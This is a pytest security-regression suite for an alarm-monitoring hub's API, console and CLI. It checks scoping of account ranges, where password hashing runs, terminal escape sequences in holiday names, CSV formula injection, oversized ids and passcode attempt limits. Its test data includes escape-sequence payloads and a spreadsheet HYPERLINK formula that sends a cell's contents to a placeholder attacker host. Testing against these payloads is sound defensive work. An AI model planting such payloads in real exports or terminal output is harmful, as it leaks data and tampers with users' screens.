"""Hostile input against the integrator API and the data around it (issue 35, items 2, 5, 6, 7,
8 and the passcode part of 12), on both databases: Argon2 hashes made on the event loop and
before the key's account range was checked, ``--accounts`` prefixes matched without letter case
on SQLite, control characters in holiday names, formulas in CSV cells, ids past 64 bits, and
passcode checks without an attempt limit.

Each test here failed on the code before this work; see each docstring for what was wrong.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import argon2
import pytest
from sqlalchemy import insert

from alarmhub.core.account import Account
from alarmhub.core.ids import MAX_ID
from alarmhub.core.response import PASSCODE_FAILURES_MAX
from alarmhub.store import provisioning
from alarmhub.store import schema as s
from alarmhub.store.engine import write_transaction
from tests.support.api_station import ApiHub, api_hub, problem
from tests.support.console_client import Console
from tests.support.processes import cli, wait_for

pytestmark = pytest.mark.backends("sqlite", "postgresql")

KEYS = {
    "admin": (("accounts:read", "accounts:write", "alarms:read"), ""),
    "dealer": (("accounts:read", "accounts:write"), "7001"),
    "upper": (("accounts:read", "alarms:read"), "AB"),
}
UPPER, LOWER, LOWER_ALARMED = "AB0001", "ab123", "ab0123"
PASSCODE = "bluebird"
PAST_64_BITS = str(MAX_ID + 1)
DEADLINE_S = 20


@pytest.fixture(scope="module")
def hub(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiHub]:
    data_dir = tmp_path_factory.mktemp("attack-api")
    with api_hub(data_dir, KEYS) as hub:
        for number in (UPPER, LOWER, LOWER_ALARMED):
            provisioning.add_account(hub.engine, Account(number, f"Case {number}"))
        cli(data_dir, "dnis", "add", "C2", "--mask", "ab####")
        cli(data_dir, "dnis", "add", "C3", "--mask", "AB####")
        yield hub


def alarm_of(hub: ApiHub, dnis: str, panel: str, account: str) -> None:
    """Post a burglary of ``panel`` on line ``dnis`` and wait for its alarm on ``account``."""
    body = {"dnis": dnis, "panel": panel, "code": "E130", "zone_or_user": "1"}
    assert hub.station.post(body).status_code == 200

    def raised() -> bool:
        with hub.engine.connect() as conn:
            rows = conn.execute(s.alarm.select().where(s.alarm.c.account_number == account))
            return rows.first() is not None

    wait_for(raised, f"an alarm of {account}", DEADLINE_S)


# item 2: Argon2 off the event loop, after the key's range ----------------------------------------


@pytest.fixture
def hashes(monkeypatch: pytest.MonkeyPatch) -> list[bool]:
    """For every Argon2 hash made while the test runs: whether an event loop was running in
    its thread (a hash on the loop holds every other request of the node meanwhile)."""
    made: list[bool] = []
    real = argon2.PasswordHasher.hash

    def spy(self: argon2.PasswordHasher, *args: Any, **kwargs: Any) -> str:
        try:
            asyncio.get_running_loop()
            made.append(True)
        except RuntimeError:
            made.append(False)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(argon2.PasswordHasher, "hash", spy)
    return made


def test_the_api_hashes_duress_codes_and_passcodes_off_the_event_loop(
    hub: ApiHub, hashes: list[bool]
) -> None:
    """Item 2: ``PUT /accounts/A`` with a duress code and ``POST .../contacts`` with a passcode
    hashed in the async handler, on the event loop (8 concurrent PUTs took the heartbeat's p50
    from 4.5 ms to 1.1 s)."""
    body = {"name": "Hashed", "duress_code": "red-fox-1"}
    hub.ok("admin", "PUT", "/accounts/700021", body)
    contact = {"name": "Ann", "phones": [{"number": "555-0101"}], "passcode": PASSCODE}
    hub.ok("admin", "POST", "/accounts/700021/contacts", contact, status=201)
    patched = {"passcode": "bluebird-2"}
    item = hub.ok("admin", "GET", "/accounts/700021/contacts")["items"][0]
    hub.ok("admin", "PATCH", f"/accounts/700021/contacts/{item['id']}", patched)
    assert hashes == [False, False, False]  # three hashes, none on the loop


def test_a_key_s_account_range_is_checked_before_any_hash(hub: ApiHub, hashes: list[bool]) -> None:
    """Item 2: ``POST .../contacts`` hashed the passcode before the key's account range was
    checked: a dealer's key made the node hash for accounts it may not touch."""
    contact = {"name": "Mallory", "phones": [{"number": "555-0666"}], "passcode": PASSCODE}
    problem(hub.call("dealer", "POST", "/accounts/700021/contacts", contact), 404, "API-NOTFOUND")
    problem(hub.call("dealer", "PATCH", "/accounts/700021/contacts/1", contact), 404,
            "API-NOTFOUND")  # fmt: skip
    duress = {"name": "Mallory", "duress_code": "red-fox-1"}
    problem(hub.call("dealer", "PUT", "/accounts/700021", duress), 404, "API-NOTFOUND")
    assert hashes == []


# item 5: --accounts prefixes with their letter case ----------------------------------------------


def test_a_key_s_prefix_matches_with_its_letter_case_in_every_list(hub: ApiHub) -> None:
    """Item 5: on SQLite, ``startswith`` became a LIKE that ignores case: a key for ``AB``
    listed account ``ab123`` and the alarms of ``ab0123``, which its single GET answers 404."""
    alarm_of(hub, "C3", "0001", UPPER)
    alarm_of(hub, "C2", "0123", LOWER_ALARMED)
    listed = [a["account"] for a in hub.ok("upper", "GET", "/accounts")["items"]]
    assert listed == [UPPER]
    alarms = hub.ok("upper", "GET", "/alarms")["items"]
    assert {a["account"] for a in alarms} == {UPPER}
    everyone = hub.ok("admin", "GET", "/alarms", params={"limit": 1000})["items"]
    assert LOWER_ALARMED in {a["account"] for a in everyone}  # the alarm is there
    problem(hub.call("upper", "GET", f"/accounts/{LOWER}"), 404, "API-NOTFOUND")


# item 6: holiday names ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["Boxing\x00Day", "\x1b]0;owned\x07Xmas", "New\x9bYear", "a\x7f"])
def test_a_holiday_name_with_control_characters_is_refused_everywhere(
    hub: ApiHub, name: str
) -> None:
    """Item 6: the API and the console stored them (a NUL was a 500 on PostgreSQL), and
    ``holiday list`` sent the escape sequences to the administrator's terminal."""
    problem(hub.call("admin", "PUT", "/holidays/2031-12-26", {"name": name}), 422, "API-INPUT")
    sup = hub.console("SUP")
    refused = sup.post("/holidays", {"date": "2031-12-26", "name": name})
    assert refused.status_code == 422, refused.text
    if "\x00" not in name:  # a NUL cannot be an argument of a command
        done = cli(hub.station.data_dir, "holiday", "add", "2031-12-26", "--name", name,
                   check=False)  # fmt: skip
        assert (done.returncode, done.stderr.startswith("error: ")) == (1, True), done.stderr
    with hub.engine.connect() as conn:
        assert conn.execute(s.holiday.select()).first() is None


def test_holiday_list_escapes_the_control_characters_of_older_rows(hub: ApiHub) -> None:
    """Item 6: a name stored before the rule reached the terminal as it was."""
    with write_transaction(hub.engine) as conn:
        conn.execute(
            insert(s.holiday).values(date="2031-01-01", account_number="", name="\x1b[2JNew\x9b")
        )
    try:
        shown = cli(hub.station.data_dir, "holiday", "list").stdout
        assert "\x1b" not in shown and "\x9b" not in shown
        assert "\\x1b[2JNew\\x9b" in shown
    finally:
        with write_transaction(hub.engine) as conn:
            conn.execute(s.holiday.delete())


# item 7: formulas in CSV -------------------------------------------------------------------------


def test_report_csv_neutralises_cells_a_spreadsheet_would_run(hub: ApiHub) -> None:
    """Item 7: ``report handling --csv`` wrote an account's name ``=HYPERLINK(...)`` as it was
    (formula injection through a name an integrator may set)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hub.ok("admin", "PUT", "/accounts/700022", {"name": formula})
    incident = hub.post("700022")
    console = hub.console("OP1")
    console.ok(f"/alarms/{incident}/take")
    console.ok(f"/alarms/{incident}/resolve", {"resolution": "FA"})
    today = datetime.now(UTC).date().isoformat()
    shown = cli(hub.station.data_dir, "report", "handling", "--from", today, "--to", today,
                "--csv").stdout  # fmt: skip
    rows = list(csv.reader(io.StringIO(shown)))
    (false_alarm,) = [r for r in rows if r[:2] == ["false_alarm", "700022"]]
    assert false_alarm[2] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


# item 8: ids past 64 bits ------------------------------------------------------------------------


@pytest.mark.parametrize("contact_id", [PAST_64_BITS, "9" * 400])
def test_a_contact_id_that_is_no_row_s_is_a_404(hub: ApiHub, contact_id: str) -> None:
    """Item 8: ``/contacts/9223372036854775808`` was a 500 on both databases."""
    path = f"/accounts/700001/contacts/{contact_id}"
    problem(hub.call("admin", "GET", path), 404, "API-NOTFOUND")
    problem(hub.call("admin", "PATCH", path, {"name": "X"}), 404, "API-NOTFOUND")
    problem(hub.call("admin", "DELETE", path), 404, "API-NOTFOUND")
    problem(hub.call("admin", "GET", f"/alarms/{contact_id}"), 404, "API-NOTFOUND")


def test_the_console_refuses_a_contact_id_past_64_bits(hub: ApiHub) -> None:
    """Item 8: a passcode check or a call naming contact 2**63 was a 500."""
    incident = hub.post("700024")
    op = hub.console("OP3")
    op.ok(f"/alarms/{incident}/take")
    bodies = {
        "passcode": {"passcode": PASSCODE, "contact_id": MAX_ID + 1},
        "call": {"contact_id": MAX_ID + 1, "outcome": "answered"},
    }
    for action, body in bodies.items():
        refused = op.post(f"/alarms/{incident}/{action}", body)
        assert refused.status_code == 422, refused.text
        assert refused.json()["error_code"] == "CONSOLE-INPUT"


@pytest.mark.parametrize(
    "args",
    [
        ("contact", "update", "700001", PAST_64_BITS, "--name", "X"),
        ("contact", "remove", "700001", PAST_64_BITS),
        ("webhook", "remove", PAST_64_BITS),
        ("webhook", "replay", PAST_64_BITS),
        ("webhook", "deliveries", "--webhook", PAST_64_BITS),
    ],
)
def test_commands_refuse_ids_past_64_bits_with_an_error_line(
    hub: ApiHub, args: tuple[str, ...]
) -> None:
    """Item 8: these printed a traceback (an OverflowError, or the database's refusal)."""
    done = cli(hub.station.data_dir, *args, check=False)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert done.stderr.startswith("error: ") and "Traceback" not in done.stderr, done.stderr


# item 12: passcode attempts ----------------------------------------------------------------------


def check(console: Console, alarm_id: int, passcode: str) -> Any:
    return console.post(f"/alarms/{alarm_id}/passcode", {"passcode": passcode})


def test_wrong_passcodes_are_limited_per_operator_and_per_alarm(hub: ApiHub) -> None:
    """Item 12: passcode checks had no attempt limit (15 wrong codes in a row, each answered).
    After five wrong codes the operator waits, and the alarm takes no more checks, from anyone,
    for the window; each refusal is logged."""
    account = "700023"
    contact = {"name": "Ann", "phones": [{"number": "555-0101"}], "passcode": PASSCODE}
    hub.ok("admin", "POST", f"/accounts/{account}/contacts", contact, status=201)
    incident = hub.post(account)
    op = hub.console("OP2")
    op.ok(f"/alarms/{incident}/take")
    for n in range(PASSCODE_FAILURES_MAX):
        answer = check(op, incident, f"wrong-{n}")
        assert answer.status_code == 200 and answer.json()["verified"] is False, answer.text
    refused = check(op, incident, PASSCODE)
    assert refused.status_code == 429, refused.text
    assert refused.json()["error_code"] == "CONSOLE-PASSCODES"
    assert "passcode check throttled" in hub.station.log()

    sup = hub.console("SUP")  # the alarm itself is locked: another operator gets no more tries
    sup.ok(f"/alarms/{incident}/take-over")
    refused = check(sup, incident, PASSCODE)
    assert refused.status_code == 429, refused.text
    assert refused.json()["error_code"] == "CONSOLE-PASSCODES"
    assert "passcode check refused" in hub.station.log()
    assert hub.alarm(incident)["passcode_verified"] == "N"
